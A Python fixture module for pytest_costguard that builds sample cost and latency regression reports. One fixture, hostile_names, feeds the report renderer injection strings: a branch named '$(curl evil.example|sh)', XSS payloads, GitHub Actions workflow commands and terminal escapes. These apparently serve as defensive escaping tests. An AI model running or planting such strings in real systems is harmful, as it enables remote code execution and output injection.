"""Representative reports, built by hand: what a reader meets in the first year of using it."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import msgspec

from pytest_costguard.records import (
    Against,
    Baseline,
    BaselineRun,
    Block,
    Budget,
    BudgetResult,
    BudgetVerdict,
    Commit,
    Comparison,
    Cost,
    Currency,
    Declaration,
    FailOn,
    Failure,
    Fingerprint,
    Interval,
    Measurement,
    MonthlyChange,
    Outcome,
    Pairing,
    PartTogether,
    Peaks,
    Quote,
    Regression,
    Report,
    Run,
    Sensors,
    Target,
    Together,
    Unit,
    Verdict,
    Warmup,
    WorkloadId,
    WorkloadVerdict,
)

RERANK = "tests/inference/test_rerank.py::test_rerank[int8-batch8]"
EMBED = "tests/inference/test_embed.py::test_embed_query"
CLASSIFY = "tests/inference/test_classify.py::test_classify_ticket"
MARKER = "marker of tests/inference/test_rerank.py::test_rerank"
WHEN = dt.datetime(2026, 3, 9, 14, 5, tzinfo=dt.UTC)
MIB = 1024.0**2

FINGERPRINT = Fingerprint(
    cpu_model="AMD EPYC 7R13 Processor",
    cores=4,
    memory_bytes=16_508_182_528,
    os="Linux 6.8.0 (Ubuntu 24.04)",
    python="3.12.3",
    packages={"numpy": "2.2.1", "onnxruntime": "1.20.1"},
)
TARGET = Target(
    name="serving",
    origin="configuration",
    quote=Quote(
        usd_per_hour=Decimal("0.1734"),
        source="https://aws.amazon.com/ec2/pricing/on-demand/",
        as_of=dt.date(2026, 2, 1),
        provider="aws",
        instance="c6a.xlarge",
        region="us-east-1",
        vcpu=4,
        discount=Decimal("0.15"),
    ),
)


def within(estimate: float, share: float = 0.02) -> Interval:
    return Interval(
        estimate=estimate,
        lower=estimate * (1 - share),
        upper=estimate * (1 + share),
        confidence=0.95,
        n=6,
    )


def figures(*, mean: float, memory: float, p99: float | None = None) -> dict[str, Interval]:
    found = {
        "mean": within(mean),
        "p50": within(mean * 0.96),
        "throughput": within(8 / mean),
        "cost_per_1k": within(float(priced(mean).usd_per_1k or 0)),
        "peak_memory": within(memory, 0.001),
    }
    return found | ({"p99": within(p99, 0.06)} if p99 else {})


def unpriced(found: dict[str, Interval]) -> dict[str, Interval]:
    return {metric: figure for metric, figure in found.items() if metric != "cost_per_1k"}


def priced(mean: float) -> Cost:
    usd = Decimal("0.1734") / 4 / Decimal(3600) * 1000 * Decimal(repr(mean)) / 8
    return Cost(
        state="priced",
        usd_per_1k=usd,
        lower=usd * Decimal("0.98"),
        upper=usd * Decimal("1.02"),
        share=Decimal("0.25"),
        share_reason="4 cores by 1 thread each",
    )


def measurement(nodeid: str, *, mean: float) -> Measurement:
    units = tuple(
        Unit(
            index=index,
            blocks=(Block(wall_seconds=mean * 40, cpu_seconds=mean * 39, requests=40, items=320),),
            latency_seconds=(mean,) * 40,
            warmup=Warmup(requests=20, seconds=mean * 20, settled=True),
            sensors=Sensors(
                wall_seconds=mean * 40,
                cpu_seconds=mean * 39,
                run_queue_wait_seconds=mean * 0.4,
                involuntary_switches=3,
                steal_seconds=0.0,
            ),
        )
        for index in range(6)
    )
    return Measurement(
        workload=WorkloadId(nodeid=nodeid),
        declaration=Declaration(
            adapter="onnxruntime", input_count=32, input_digest="sha256:0a1b", threads=1
        ),
        units=units,
    )


def rule(metric: str, *, origin: str = "default") -> Regression:
    return Regression(metric=metric, allow=0.02, catch=0.05, origin=origin)


def compared(
    metric: str,
    verdict: Verdict,
    *,
    base: float,
    ratio: float,
    half: float = 0.011,
    reason: str = "",
    visible: float | None = 0.03,
    origin: str = "default",
) -> Comparison:
    return Comparison(
        metric=metric,
        verdict=verdict,
        head=base * ratio,
        base=base,
        ratio=ratio,
        lower=ratio - half,
        upper=ratio + half,
        smallest_visible=visible,
        regression=rule(metric, origin=origin),
        reason=reason,
        runs=8,
    )


def unchanged(nodeid: str, *, mean: float, memory: float, p99: float) -> WorkloadVerdict:
    same = "surely below what must be caught"
    return WorkloadVerdict(
        workload=WorkloadId(nodeid=nodeid),
        comparisons=(
            compared("mean", Verdict.UNCHANGED, base=mean / 1.003, ratio=1.003, reason=same),
            compared(
                "peak_memory", Verdict.UNCHANGED, base=memory, ratio=1.0, half=0.0004, reason=same
            ),
        ),
        budgets=(slo(p99, limit=0.050, verdict=BudgetVerdict.WITHIN),),
        figures=figures(mean=mean, memory=memory, p99=p99),
        cost=priced(mean),
    )


def slo(p99: float, *, limit: float, verdict: BudgetVerdict) -> BudgetResult:
    return BudgetResult(
        budget=Budget(
            metric="p99",
            limit=limit,
            kind="slo",
            origin="pyproject.toml [tool.costguard.slo] p99",
            text=f"{limit * 1000:g}ms",
        ),
        verdict=verdict,
        interval=within(p99, 0.06),
        limit=limit,
        reason="the 95 % interval lies below the limit",
    )


def run(
    *measurements: Measurement, failures: tuple[Failure, ...] = (), complete: bool = True
) -> Run:
    return Run(
        run_id="0190c0ffee",
        created=WHEN,
        tool_version="0.1.0",
        fingerprint=FINGERPRINT,
        commit=Commit(sha="4f6f2f9d6c8a4e6f9b1c", branch="faster-tokeniser"),
        measurements=measurements,
        failures=failures,
        complete=complete,
    )


def baseline(*, runs: int = 8, days: int = 8, other_series: tuple[str, ...] = ()) -> Baseline:
    return Baseline(
        name="main",
        location=".costguard/baselines/main",
        runs=tuple(
            BaselineRun(
                run_id=f"run{number}",
                created=WHEN - dt.timedelta(days=1 + number % days, hours=number),
                tool_version="0.1.0",
                fingerprint=FINGERPRINT,
                commit=Commit(sha=f"{number + 10:02x}" * 10),
            )
            for number in range(runs)
        ),
        other_series=other_series,
    )


def report(
    *verdicts: WorkloadVerdict,
    sentence: str,
    failed: bool = False,
    with_baseline: Baseline | None = None,
    **fields: object,
) -> Report:
    built = Report(
        run=run(
            *(
                measurement(str(verdict.workload), mean=verdict.figures["mean"].estimate)
                for verdict in verdicts
                if "mean" in verdict.figures
            )
        ),
        baseline=with_baseline,
        target=TARGET,
        verdicts=verdicts,
        outcome=Outcome(failed=failed, sentence=sentence),
    )
    return msgspec.structs.replace(built, **fields) if fields else built


def first_run() -> Report:
    plain = [
        msgspec.structs.replace(one, comparisons=())
        for one in (
            unchanged(RERANK, mean=0.0123, memory=512 * MIB, p99=0.0187),
            unchanged(EMBED, mean=0.00231, memory=301 * MIB, p99=0.00402),
        )
    ]
    return report(*plain, sentence="2 workloads measured; no baseline yet, all budgets hold.")


def regressed_and_over() -> Report:
    slow = WorkloadVerdict(
        workload=WorkloadId(nodeid=RERANK),
        comparisons=(
            compared(
                "mean",
                Verdict.REGRESSED,
                base=0.0123,
                ratio=1.1246,
                reason="surely more than 2 % above the baseline",
                origin=MARKER,
            ),
            compared(
                "peak_memory",
                Verdict.UNCHANGED,
                base=512 * MIB,
                ratio=1.001,
                half=0.0004,
                reason="surely below what must be caught",
            ),
        ),
        budgets=(
            BudgetResult(
                budget=Budget(metric="cost_per_1k", limit=0.00002, origin=MARKER, text="$0.00002"),
                verdict=BudgetVerdict.OVER,
                cause=FailOn.BUDGET,
                interval=within(float(priced(0.01383).usd_per_1k or 0)),
                limit=0.00002,
                reason="the lower bound exceeds the limit",
            ),
            slo(0.0208, limit=0.050, verdict=BudgetVerdict.WITHIN),
        ),
        figures=figures(mean=0.01383, memory=512.5 * MIB, p99=0.0208),
        cost=priced(0.01383),
        failing=(
            f"mean latency regressed: +12.5 %, allowed 2 %\n  limit set by {MARKER}",
            f"cost per 1k over budget: USD 0.0000208, limit USD 0.0000200\n  limit set by {MARKER}",
        ),
    )
    fast = msgspec.structs.replace(
        unchanged(CLASSIFY, mean=0.00084, memory=120 * MIB, p99=0.00119),
        comparisons=(
            compared(
                "mean",
                Verdict.IMPROVED,
                base=0.0012,
                ratio=0.70,
                half=0.02,
                reason="surely more than 2 % below the baseline",
            ),
        ),
    )
    return report(
        slow,
        unchanged(EMBED, mean=0.00231, memory=301 * MIB, p99=0.00402),
        fast,
        sentence="1 of 3 workloads regressed and is over its budget: mean latency of "
        f"{RERANK} is 12.5 % higher; 1 improved.",
        failed=True,
        with_baseline=baseline(),
    )


def side_by_side() -> Report:
    """The reranker of `regressed_and_over` with its base beside it, at a traffic."""
    monthly = MonthlyChange(usd=Decimal(310), lower=Decimal(285), upper=Decimal(334))
    whole = regressed_and_over()
    slow, same, _ = whole.verdicts
    (mean, memory) = slow.comparisons
    told = "surely more than 2 % worse, side by side in 6 units, by CPU time"
    mean = msgspec.structs.replace(mean, reason=told, runs=6)
    slow = msgspec.structs.replace(
        slow, comparisons=(mean, memory), budgets=slow.budgets[1:], monthly=monthly
    )
    return report(
        slow,
        same,
        sentence=f"Regressed: {RERANK} mean latency +12.5 %; USD 310 a month more at the declared"
        " traffic (USD 285 to USD 334); 3 comparisons unchanged; 2 budgets kept.",
        failed=True,
        against=Against(
            requested="merge-base:main",
            found_as="merge base with branch main",
            run=msgspec.structs.replace(
                whole.run, run_id="0190c0ffed", commit=Commit(sha="9b1c" * 10)
            ),
            looks=(6, 10, 16, 24),
            cores=(2, 3),
            pairings={
                RERANK: Pairing(kind="alternating", clock="cpu", reason="its time is CPU time"),
                EMBED: Pairing(kind="together", clock="cpu", reason="its requests are slow"),
            },
        ),
    )


def all_unchanged() -> Report:
    return report(
        unchanged(RERANK, mean=0.0123, memory=512 * MIB, p99=0.0187),
        unchanged(EMBED, mean=0.00231, memory=301 * MIB, p99=0.00402),
        sentence="Nothing changed: 2 workloads compared with main, all budgets hold.",
        with_baseline=baseline(),
    )


def inconclusive() -> Report:
    noisy = WorkloadVerdict(
        workload=WorkloadId(nodeid=RERANK),
        comparisons=(
            compared(
                "mean",
                Verdict.INCONCLUSIVE,
                base=0.0123,
                ratio=1.041,
                half=0.19,
                visible=0.31,
                reason="changes can be seen from +31.0 % up, against the spread of 8 baseline"
                " runs, but must be from 5 %: compare base and head side by side on one machine,"
                " or use a quieter one",
            ),
        ),
        figures=figures(mean=0.0128, memory=512 * MIB),
        unsupported={"p99": "p99 not supported by 240 samples (368 needed)"},
        cost=priced(0.0128),
        warnings=("onnxruntime 1.20.1, baseline 1.19.2: a possible cause",),
    )
    return report(
        noisy,
        unchanged(EMBED, mean=0.00231, memory=301 * MIB, p99=0.00402),
        sentence="1 of 2 workloads is inconclusive on this machine, nothing surely regressed.",
        with_baseline=baseline(days=1),
    )


def not_comparable() -> Report:
    reason = "the CPU differs: AMD EPYC 7R13 Processor here, Intel(R) Xeon(R) 8375C in the baseline"
    verdicts = [
        WorkloadVerdict(
            workload=WorkloadId(nodeid=nodeid),
            comparisons=tuple(
                Comparison(metric=metric, verdict=Verdict.NOT_COMPARABLE, reason=reason)
                for metric in ("mean", "peak_memory")
            ),
            figures=unpriced(figures(mean=mean, memory=300 * MIB)),
            cost=Cost(
                state="not measured on target",
                reason="4 cores here, 8 declared for target serving",
            ),
            inputs_changed=nodeid == EMBED,
        )
        for nodeid, mean in ((RERANK, 0.0123), (EMBED, 0.00231))
    ]
    return report(
        *verdicts,
        sentence="2 workloads measured, none comparable with the baseline main.",
        with_baseline=baseline(runs=0, other_series=("Intel(R) Xeon(R) 8375C, 8 cores: 8 runs",)),
        missing=(WorkloadId(nodeid=CLASSIFY),),
    )


def failures() -> Report:
    good = unchanged(EMBED, mean=0.00231, memory=301 * MIB, p99=0.00402)
    built = report(
        good,
        sentence="1 of 2 workloads could not be measured.",
        failed=True,
        with_baseline=baseline(runs=3, days=1),
    )
    broken = Failure(
        workload=WorkloadId(nodeid=RERANK),
        reason="the worker died with signal 9 while it loaded models/reranker.int8.onnx.",
        remedy="Give it more memory, or look at the log.",
        details="Killed",
    )
    return msgspec.structs.replace(
        built,
        run=run(measurement(EMBED, mean=0.00231), failures=(broken,), complete=False),
    )


HOSTILE = (
    "tests/test_a.py::test_x[@octocat [click](https://evil.example) <img src=x onerror=1>]",
    "tests/test_b.py::test_`pipe|\\|tick``|\n| a | b |",
    "tests/test_c.py::\u202etxet\u200b \x1b[31mred\x07 ::error file=x::boom",
)


def hostile_names() -> Report:
    verdicts = [
        WorkloadVerdict(
            workload=WorkloadId(nodeid=name, name="</details> #1 $a$"),
            comparisons=(
                compared(
                    "mean",
                    Verdict.REGRESSED,
                    base=0.01,
                    ratio=1.5,
                    half=0.1,
                    reason="::set-output name=x::y see www.evil.example or mail a@b.example",
                    origin="marker of " + name,
                ),
            ),
            figures=figures(mean=0.015, memory=100 * MIB),
            cost=priced(0.015),
            warnings=(f"<script>alert(1)</script> in {name}",),
        )
        for name in HOSTILE
    ]
    built = report(
        *verdicts,
        sentence=f"3 workloads regressed: {HOSTILE[0]} @everyone\n\n# heading",
        failed=True,
        with_baseline=baseline(),
    )
    return msgspec.structs.replace(
        built,
        run=msgspec.structs.replace(
            built.run, commit=Commit(sha="0" * 40, branch="$(curl evil.example|sh)`x`")
        ),
    )


def not_priced() -> Report:
    reason = "no price is known for aws:c9z.large:us-east-1; did you mean aws:c6a.large:us-east-1?"
    held = BudgetResult(
        budget=Budget(metric="cost_per_1k", limit=0.02, origin=MARKER, text="$0.02"),
        verdict=BudgetVerdict.NOT_PRICED,
        cause=FailOn.NOT_PRICED,
        limit=0.02,
        reason=reason,
    )
    verdict = msgspec.structs.replace(
        unchanged(RERANK, mean=0.0123, memory=512 * MIB, p99=0.0187),
        figures=unpriced(figures(mean=0.0123, memory=512 * MIB, p99=0.0187)),
        budgets=(held,),
        cost=Cost(state="not priced", reason=reason),
    )
    return report(
        verdict,
        sentence="Nothing changed in 1 workload; its cost budget could not be checked.",
        with_baseline=baseline(),
        target=None,
        target_problem=reason,
    )


def busy_machine() -> Report:
    """A change that was corrected for the machine's speed, and figures that hold waiting."""
    compared_once = msgspec.structs.replace(
        compared(
            "mean",
            Verdict.IMPROVED,
            base=0.000619,
            ratio=0.968,
            half=0.008,
            reason="surely more than 2 % better, against the spread of 8 baseline runs",
        ),
        head=0.000636,
    )
    verdict = WorkloadVerdict(
        workload=WorkloadId(nodeid=RERANK),
        comparisons=(compared_once,),
        figures=figures(mean=0.000636, memory=512 * MIB, p99=0.00121),
        cost=priced(0.000636),
    )
    built = report(verdict, sentence="Improved: test_rerank.", with_baseline=baseline())
    (seen,) = built.run.measurements
    waiting = tuple(
        msgspec.structs.replace(
            one,
            sensors=msgspec.structs.replace(
                one.sensors, run_queue_wait_seconds=0.38 * one.sensors.wall_seconds
            ),
        )
        for one in seen.units
    )
    return msgspec.structs.replace(built, run=run(msgspec.structs.replace(seen, units=waiting)))


def in_euros() -> Report:
    target = msgspec.structs.replace(
        TARGET,
        currency=Currency(code="EUR", per_usd=Decimal("0.92"), as_of=dt.date(2026, 3, 2)),
    )
    return msgspec.structs.replace(all_unchanged(), target=target)


def sixty_workloads() -> Report:
    """A large suite: three got slower, two are not decided, one got faster."""
    verdicts = [
        unchanged(
            f"tests/inference/test_{family}.py::test_{family}[{size}]",
            mean=0.0004 * (1 + number),
            memory=(200 + 10 * number) * MIB,
            p99=0.0006 * (1 + number),
        )
        for number, (family, size) in enumerate(
            (family, size)
            for family in ("rerank", "embed", "classify", "translate", "summarise", "detect")
            for size in ("xs", "s", "m", "l", "xl", "fp32", "fp16", "int8", "batch1", "batch8")
        )
    ]
    changed = {
        7: (Verdict.REGRESSED, 1.083, "surely more than 2 % worse, in 10 units by CPU time"),
        18: (Verdict.REGRESSED, 1.31, "surely more than 2 % worse, in 6 units by CPU time"),
        33: (Verdict.REGRESSED, 1.046, "surely more than 2 % worse, in 16 units by CPU time"),
        40: (Verdict.INCONCLUSIVE, 1.03, "between 2 % and 5 %: --costguard-deep would decide"),
        41: (Verdict.INCONCLUSIVE, 1.02, "between 2 % and 5 %: --costguard-deep would decide"),
        55: (Verdict.IMPROVED, 0.88, "surely more than 2 % better, in 6 units by CPU time"),
    }
    for number, (verdict, ratio, reason) in changed.items():
        one = verdicts[number]
        base = one.figures["mean"].estimate / ratio
        slower = compared("mean", verdict, base=base, ratio=ratio, half=0.009, reason=reason)
        verdicts[number] = msgspec.structs.replace(one, comparisons=(slower, *one.comparisons[1:]))
    return report(
        *verdicts,
        sentence="3 of 60 workloads regressed: mean latency of test_embed[batch1] is 31 % higher;"
        " 2 inconclusive, 1 improved.",
        failed=True,
        with_baseline=baseline(),
    )


def measured_together() -> Report:
    """Two models on one machine, which take longer beside each other than alone."""
    nodeid = "tests/inference/test_shared.py::test_search_machine"
    whole = WorkloadId(nodeid=nodeid, name="together")
    means = {"reranker": 0.0123, "embedder": 0.00231}

    def times(ratio: float) -> Interval:
        return within(ratio, 0.1)

    together = Together(
        parts=tuple(
            PartTogether(
                name=name,
                share=share,
                requests=6000,
                figures={
                    "p50": within(means[name] * 1.2),
                    "p99": within(means[name] * 3.3),
                    "error_rate": within(error_rate, 0.5),
                },
                longer={"p50": times(1.12), "p99": times(1.8)},
                served_longer=times(1.04),
            )
            for name, share, error_rate in (("reranker", 0.75, 0.0), ("embedder", 0.25, 0.004))
        ),
        peaks={"peak_memory": Peaks(together_bytes=640 * MIB, apart_bytes=813 * MIB)},
    )
    alone = [
        WorkloadVerdict(
            workload=whole.alone(name),
            figures=figures(mean=mean, memory=400 * MIB),
            cost=priced(mean),
        )
        for name, mean in means.items()
    ]
    mixture = WorkloadVerdict(
        workload=whole,
        figures=figures(mean=0.0101, memory=640 * MIB),
        cost=priced(0.0101),
        together=together,
    )
    return report(*alone, mixture, sentence="No baseline yet; 3 workloads measured.")


EXAMPLES = {
    build.__name__: build
    for build in (
        first_run,
        regressed_and_over,
        side_by_side,
        all_unchanged,
        inconclusive,
        not_comparable,
        failures,
        hostile_names,
        not_priced,
        in_euros,
        busy_machine,
        sixty_workloads,
        measured_together,
    )
}


def three_targets() -> dict[str, Report]:
    """The same suite on three machines: one fails, one does not know, one is fine."""
    return {
        "c7i.large": regressed_and_over(),
        "c7g.large": inconclusive(),
        "g5.xlarge": all_unchanged(),
    }
